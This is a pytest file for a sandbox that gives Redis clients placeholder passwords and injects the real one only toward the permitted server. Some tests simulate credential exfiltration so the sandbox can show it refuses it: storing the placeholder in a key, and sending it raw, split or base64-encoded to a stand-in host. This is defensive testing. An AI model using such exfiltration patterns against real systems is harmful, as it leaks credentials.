"""A client of Redis holds a placeholder; only its own server gets the real password.  Raw connections
are searched, too."""
import secrets

import pytest

from egress_databases import Redis, needs_redis, stranger  # noqa: F401  a fixture
from egress_lab import helpers_of, needs_python
from operators import IS_STATIC, wait_until
from test_egress_secrets import has

pytestmark = needs_redis

RULES = """
  - allow: [db.example.test, stranger.example.test]
    ports: [6379, 6380, 7000]
    protocol: tcp
"""
CLI = "redis-cli -h db.example.test"


@pytest.fixture(scope="module")
def passwords():
    return {user: f"cAnary{secrets.token_hex(12)}" for user in ("default", "alice")}


@pytest.fixture(scope="module")
def server(lab, ground, passwords):
    server = Redis(lab, ground / "redis", passwords["default"], {"alice": passwords["alice"]})
    yield server
    server.close()


@pytest.fixture
def db(online, server, passwords):
    def give(user, *options, host="db.example.test"):
        online.operator.cloister("secret", "add", "KV", "--like", "redis", "--host", host, *options,
                                 input=passwords[user]).ok()
        return passwords[user]
    online.give = give
    online.server = server
    return online


def sh(online, script, options=("-s", "KV")):
    done = online.sh(RULES, f'echo "$REDISCLI_AUTH"; {script}', options=options)
    fake, _, said = done.out.partition("\n")
    return done, fake, said


def test_auth(db):
    real = db.give("default")
    done, fake, said = sh(db, f"{CLI} set a b; {CLI} get a; {CLI} acl whoami")
    assert said.split() == ["OK", "b", "default"], done
    assert fake != real and real not in done.out + done.err
    event = db.events(type="tcp", verdict="allow")[-1]
    assert event["service"] == "redis" and event["secret"] == "KV"
    assert real not in str(db.events()) and fake not in str(db.events())


def test_without_a_login_the_server_refuses(db):
    db.give("default")
    done, fake, said = sh(db, f"unset REDISCLI_AUTH; {CLI} get a")
    assert "NOAUTH" in said


def test_a_user(db):
    db.give("alice")
    done, fake, said = sh(db, f"{CLI} --user alice acl whoami; {CLI} -3 --user alice acl whoami")
    assert said.split() == ["alice", "alice"], done
    assert db.events(type="tcp")[-1]["user"] == "alice"


def test_the_user_that_it_is_for(db):
    """A login without a user is for that user; a login with another user is refused."""
    db.give("alice", "--id", "alice")
    done, fake, said = sh(db, f"{CLI} acl whoami; {CLI} --user default acl whoami")
    assert said.split()[0] == "alice" and "not of a secret of the user 'default'" in done.out + done.err, done
    assert db.refusal()["why"] == "login"


def test_tls_on_both_sides(db):
    """Each as it is wanted."""
    real = db.give("default", "--with", "tls=on", host="db.example.test:6380")
    tls = '--tls --cacert "$SSL_CERT_FILE"'
    done, fake, said = sh(db, f"{CLI} -p 6380 {tls} --sni db.example.test ping; {CLI} -p 6380 ping")
    assert said.split() == ["PONG", "PONG"], done
    assert real not in done.out


def test_tls_in_the_cell_only(db):
    db.give("default")
    done, fake, said = sh(db, f'{CLI} --tls --cacert "$SSL_CERT_FILE" ping')
    assert said.split() == ["PONG"], done


def test_a_wrong_password(db):
    db.give("default")
    done, fake, said = sh(db, f"REDISCLI_AUTH=guess {CLI} ping")
    assert "WRONGPASS refused by cloister: the password is not the placeholder" in done.out + done.err
    assert db.refusal()["why"] == "login"


TALK = """
import os, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
s.settimeout(20)
key = os.environ["REDISCLI_AUTH"].encode()
def cmd(*words):
    words = [w if isinstance(w, bytes) else w.encode() for w in words]
    return b"*%d\\r\\n" % len(words) + b"".join(b"$%d\\r\\n%s\\r\\n" % (len(w), w) for w in words)
for piece in eval(sys.argv[3], {"key": key, "cmd": cmd}):
    s.sendall(piece)
s.shutdown(socket.SHUT_WR)
out = b""
try:
    while data := s.recv(65536):
        out += data
except ConnectionResetError:
    out += b"RESET"
sys.stdout.buffer.write(out.replace(key, b"FAKE"))
# What was said about the connection has been heard when another is answered.
with socket.create_connection((sys.argv[1], int(sys.argv[2]))) as s:
    s.sendall(cmd("PING"))
    s.recv(1)
"""


def talk(online, pieces, host="db.example.test", port=6379):
    return online.python(RULES, TALK, host, str(port), pieces, options=("-s", "KV")).out


@pytest.mark.parametrize("pieces, said", [
    # Words on a line, as a person types them.
    ('[b"AUTH " + key + b"\\r\\nPING\\r\\n"]', "+OK\n+PONG\n"),
    ('[b"\\r\\n  auTH   \\"" + key + b"\\"\\nPING\\n"]', "+OK\n+PONG\n"),
    ('[b"aut", b"h default \'" + key[:5], key[5:] + b"\'\\r\\n", b"echo \\"\\\\x41 b\\"\\r\\n"]', "+OK\n$3\nA b\n"),
    ('[b"hello 2 auth default " + key + b" setname me\\r\\nclient getname\\r\\n"]', "$2\nme\n"),
    # Arrays, all at once and byte by byte.
    ('[cmd("PING") + cmd("AUTH", key) + cmd("PING")]', "-NOAUTH Authentication required.\n+OK\n+PONG\n"),
    ('[bytes([c]) for c in cmd("AutH", "default", key) + cmd("PING")]', "+OK\n+PONG\n"),
    ('[b"*0\\r\\n" + cmd("AUTH", key) + cmd("ECHO", "")]', "+OK\n$0\n\n"),
    ('[cmd("HELLO", "3", "AUTH", "default", key, "SETNAME", "me") + cmd("client", "getname")]', "$2\nme\n"),
    # Often, and with much behind it.
    ('[cmd("AUTH", key) * 100 + cmd("PING") * 1000]', "+OK\n" * 100 + "+PONG\n" * 1000),
])
def test_however_it_is_written(db, pieces, said):
    real = db.give("default")
    out = talk(db, pieces).replace("\r\n", "\n")
    assert out.endswith(said), out
    assert real not in out


@pytest.mark.parametrize("pieces", [
    'b"*1\\r\\n$4\\r\\nPINGx\\r\\n"', 'b"*1\\n$4\\r\\nPING\\r\\n"', 'b"*+1\\r\\n$4\\r\\nPING\\r\\n"',
    'b"*1\\r\\n$04\\r\\nPING\\r\\n"', 'b"echo \\"a\\"b\\r\\n"', 'b"echo \\"a\\r\\n"', 'b"echo a\\0b\\r\\n"',
])
def test_unsupported_commands(db, pieces):
    db.give("default")
    out = talk(db, f'[b"AUTH " + key + b"\\r\\n", {pieces}]')
    assert "PONG" not in out and "$1" not in out
    assert db.refusal()["why"] == "malformed"


def test_a_placeholder_where_it_does_not_belong(db):
    real = db.give("default")
    done, fake, said = sh(db, f'{CLI} set stolen "$REDISCLI_AUTH"; {CLI} get stolen')
    assert fake not in said
    assert db.refusal()["why"] == "exfiltration"


def test_responses_are_scrubbed(db):
    """The replacement has the same length, so that the surrounding reply stays valid."""
    real = db.give("default")
    done, fake, said = sh(db, f"{CLI} config get requirepass; {CLI} eval \"return 'x{real[:9]}' .. '{real[9:]}y'\" 0")
    assert real not in done.out
    assert said.split() == ["requirepass", fake, f"x{fake}y"], done


RENEWED = TALK[:TALK.index("for piece")] + """
def ask(sock, *words):
    sock.sendall(cmd(*words))
    return sock.recv(65536)
new = sys.argv[3]
assert ask(s, "AUTH", key) == b"+OK\\r\\n"
assert ask(s, "ACL", "SETUSER", "default", ">" + new) == b"+OK\\r\\n"
while True:
    with socket.create_connection((sys.argv[1], int(sys.argv[2]))) as other:
        if ask(other, "AUTH", key) == b"+OK\\r\\n" and new.encode() not in ask(other, "ECHO", new):
            break
print(new in ask(s, "ECHO", new).decode(), sys.argv[4] in ask(s, "CONFIG", "GET", "requirepass").decode())
ask(s, "ACL", "SETUSER", "default", "<" + new)
"""


def test_a_connection_that_was_there_before_the_value(db, passwords):
    """The server may tell the new one, and the old one too."""
    old, new = passwords["default"], f"cAnary{secrets.token_hex(12)}"
    called = db.operator.folder("source") / "called"
    script = db.operator.file("source/give", f"""#!/bin/sh
printf '{{"token": "%s", "life": %s}}' $(test -e {called} && echo {new} 3600 || echo {old} 6)
: >{called}
""")
    script.chmod(0o755)
    definition = db.operator.file("source/secret.yaml", f"""version: 1
secrets:
  KV: {{like: redis, hosts: db.example.test, from: 'cmd:{script}', members: {{secret: /token}}, expires: /life}}
""")
    db.operator.cloister("secret", "add", "KV", "-f", definition).ok()
    done = db.python(RULES, RENEWED, "db.example.test", "6379", new, old, options=("-s", "KV"))
    assert done.ok().split() == ["False", "False"]


def test_another_secrets_placeholder(db, passwords):
    db.give("default")
    db.operator.cloister("secret", "add", "OTHER", "--host", "www.example.test", input="cAnary" + "o" * 30).ok()
    done, fake, said = sh(db, f'REDISCLI_AUTH="$OTHER" {CLI} ping', options=("-s", "KV", "-s", "OTHER"))
    assert "PONG" not in said
    event = db.refusal()
    assert event["why"] == "exfiltration" and "'OTHER'" in event["note"]


def test_another_host(db, stranger):
    real = db.give("default")
    done, fake, said = sh(db, "redis-cli -h stranger.example.test ping")
    assert "PONG" not in said and "OK" not in said
    # It tries more than once.
    assert {e["why"] for e in db.events(verdict="deny")} == {"exfiltration"}
    assert fake not in stranger.heard() and real not in stranger.heard()


@pytest.mark.parametrize("pieces, found", [
    ('[b"x" * 100000 + key + b"y"]', True),
    ('[b"a", *(bytes([c]) for c in key), b"WHOLE"]', True),
    ('[__import__("base64").b64encode(b"my " + key)]', True),
    ('[key[:-1] + b" " + key[-1:] + b"WHOLE"]', False),
])
def test_raw_bytes_anywhere(db, stranger, pieces, found):
    """Also across pieces of any size; what is none passes."""
    db.give("default")
    out = talk(db, pieces, "stranger.example.test", 7000)
    if found:
        assert "OK" not in out
        assert db.refusal()["why"] == "exfiltration"
    else:
        assert "+OK" in out
        assert not [e for e in db.events() if e["verdict"] == "deny"]


PIPELINE = """
import os, redis
r = redis.Redis("db.example.test", username=None, password=os.environ["REDISCLI_AUTH"])
p = r.pipeline(transaction=False)
for i in range(5000):
    p.set(f"k{i}", "v" * (i % 100))
print(len(p.execute()))
r.set("big", b"z" * 30000000)
print(len(r.get("big")))
with r.pubsub() as sub:
    sub.subscribe("news")
    sub.get_message(timeout=10)
    r.publish("news", "now")
    print(sub.get_message(timeout=10)["data"].decode())
"""


@needs_python("redis")
def test_a_program(db):
    db.give("default")
    done = db.python(RULES, PIPELINE, options=("-s", "KV"))
    assert done.ok().split() == ["5000", "30000000", "now"]


BURSTS = TALK[:TALK.index("for piece")] + """
s.sendall(cmd("AUTH", key))
s.recv(100)
for i in range(200):
    s.sendall(cmd("SET", "burst", "v" * int(sys.argv[3])))
    assert s.recv(100) == b"+OK\\r\\n"
print("all")
"""


@pytest.mark.parametrize("size", [50000, 122000, 130000, 250000])
def test_bursts(db, size):
    """All of a command is passed on, however many reads it takes, before the client sends more."""
    db.give("default")
    done = db.python(RULES, BURSTS, "db.example.test", "6379", str(size), options=("-s", "KV"))
    assert done.ok() == "all\n"


@pytest.mark.skipif(not IS_STATIC, reason="a sanitizer's processes look different")
def test_it_is_in_no_process_but_the_courier(db):
    real = db.give("default")
    db.start(RULES, "sh", "-c", f"{CLI} set ready yes >out; {CLI} blpop never 0", options=("-s", "KV"))
    wait_until(lambda: "OK" in db.inside("cat", "out").out, "it has logged in")
    helpers = helpers_of(db.operator, db.cell)
    try:
        holders = {pid for pid in db.operator.pids(db.cell) if has(pid, real.encode())}
    except OSError:
        pytest.skip("only root may look into processes")
    assert holders == {helpers["courier"]}
